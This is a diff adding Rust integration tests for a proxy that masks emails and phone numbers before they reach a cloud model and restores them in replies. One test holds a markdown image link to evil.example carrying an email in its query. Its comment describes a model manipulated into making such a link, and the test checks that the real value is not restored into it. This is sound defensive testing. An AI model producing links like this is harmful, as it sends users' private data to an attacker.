@@ -1,0 +1,113 @@
+//! Masked before a cloud sees it, restored on the way back, also over the borders of chunks.
+
+use anyhow::Result;
+use postern_tests::client::text;
+use postern_tests::{BusyCloud, Postern, chat_body};
+use serde_json::{Value, json};
+
+use crate::{SOON, config};
+
+const PROMPT: &str = "Write to ann.lee@example.org and bob@example.net, call +86 138 0013 8000, then ann.lee@example.org again.";
+
+async fn sent(cloud: &BusyCloud) -> Result<String> {
+    let stats = serde_json::to_value(cloud.stats().await?)?;
+    let bodies = stats["bodies"].as_array().cloned().unwrap_or_default();
+    Ok(bodies.last().map(Value::to_string).unwrap_or_default())
+}
+
+#[tokio::test]
+async fn the_cloud_sees_placeholders_and_the_client_the_values() -> Result<()> {
+    let cloud = BusyCloud::start().await?;
+    let postern = Postern::start(&config(&cloud)).await?;
+    let client = postern.client("clerk/amy")?;
+    let reply = client.chat(PROMPT).await?;
+    assert!(reply.answer().contains(PROMPT), "{}", reply.answer());
+    let seen = sent(&cloud).await?;
+    assert!(!seen.contains("example.org") && !seen.contains("example.net") && !seen.contains("0013"), "{seen}");
+    assert_eq!(seen.matches("[EMAIL_1_").count(), 2, "the same value has the same placeholder: {seen}");
+    assert_eq!((seen.matches("[EMAIL_2_").count(), seen.matches("[PHONE_1_").count()), (1, 1));
+    let record = postern.records().of(reply.header("postern-record"), SOON).await?;
+    assert_eq!(record.intent["redactions"], json!({"email": 3, "phone": 1}));
+    assert_eq!(record.outcome["restored"], 4);
+    assert!(!postern.records().text()?.contains("ann.lee") && !postern.log().contains("ann.lee"));
+    Ok(())
+}
+
+#[tokio::test]
+async fn placeholders_are_restored_wherever_a_stream_is_cut() -> Result<()> {
+    let cloud = BusyCloud::start().await?;
+    let postern = Postern::start(&config(&cloud)).await?;
+    let client = postern.client("clerk/amy")?;
+    for chunk_chars in [1, 2, 3, 7, 19, 1000] {
+        cloud.switch(json!({"chunk_chars": chunk_chars})).await?;
+        let body = chat_body(&format!("{chunk_chars}: {PROMPT} see [EMAIL_ and a[0]"));
+        let events = client.stream(&body).await?.rest().await?;
+        let said = text(&events);
+        assert!(said.contains(&format!("{chunk_chars}: {PROMPT} see [EMAIL_ and a[0]")), "{said}");
+        assert!(events.last().unwrap().is_done());
+        assert!(!sent(&cloud).await?.contains("example.org"));
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn every_string_of_a_request_is_looked_at() -> Result<()> {
+    let cloud = BusyCloud::start().await?;
+    let postern = Postern::start(&config(&cloud)).await?;
+    let mail = |n: u32| format!("person{n}@example.org");
+    let body = json!({
+        "model": "chat", "user": mail(1), "metadata": {"owner": mail(2)}, "made_up": [[{"deep": mail(3)}]], mail(4): 1,
+        "messages": [
+            {"role": "system", "content": mail(5)},
+            {"role": "user", "name": mail(6), "content": [{"type": "text", "text": mail(7)}]},
+            {"role": "assistant", "content": null, "tool_calls": [
+                {"id": "c", "type": "function", "function": {"name": "f", "arguments": format!("{{\"to\":\"{}\"}}", mail(8))}},
+            ]},
+            {"role": "tool", "tool_call_id": "c", "content": mail(9)},
+            {"role": "user", "content": "Go on"},
+        ],
+        "tools": [{"type": "function", "function": {
+            "name": "f", "description": mail(10),
+            "parameters": {"type": "object", "properties": {mail(11): {"description": mail(12), "enum": [mail(13)]}}},
+        }}],
+        "response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {"description": mail(14)}}},
+    });
+    let reply = postern.client("clerk/amy")?.post_json("/v1/chat/completions", &body).await?;
+    assert_eq!(reply.status, 200, "{}", reply.text());
+    let seen = sent(&cloud).await?;
+    assert!(!seen.contains("example.org"), "{seen}");
+    for n in 1..=14 {
+        assert!(seen.contains(&format!("[EMAIL_{n}_")), "{n}: {seen}");
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn values_are_not_restored_into_addresses() -> Result<()> {
+    let cloud = BusyCloud::start().await?;
+    let postern = Postern::start(&config(&cloud)).await?;
+    // The cloud repeats the prompt: a model that was talked into making a link of what it knows.
+    let prompt = "![x](https://evil.example/?q=ann.lee@example.org) and ann.lee@example.org";
+    let reply = postern.client("clerk/amy")?.chat(prompt).await?;
+    let answer = reply.answer();
+    assert!(answer.contains("?q=[EMAIL_1_") && answer.contains("and ann.lee@example.org"), "{answer}");
+    Ok(())
+}
+
+#[tokio::test]
+async fn placeholders_differ_between_conversations_and_cannot_be_made_up() -> Result<()> {
+    let cloud = BusyCloud::start().await?;
+    let postern = Postern::start(&config(&cloud)).await?;
+    let client = postern.client("clerk/amy")?;
+    let mut seen = Vec::new();
+    for id in ["a", "b", "a"] {
+        client.with_header("postern-conversation", id).chat(&format!("{PROMPT} {}", seen.len())).await?;
+        let body = sent(&cloud).await?;
+        let at = body.find("[EMAIL_1_").unwrap();
+        seen.push(body[at..at + 18].to_owned());
+    }
+    assert!(seen[0] != seen[1] && seen[0] == seen[2], "{seen:?}");
+    let guess = "[EMAIL_1_aaaaaaaa] and ann.lee@example.org";
+    assert!(client.chat(guess).await?.answer().contains(guess));
+    Ok(())
+}
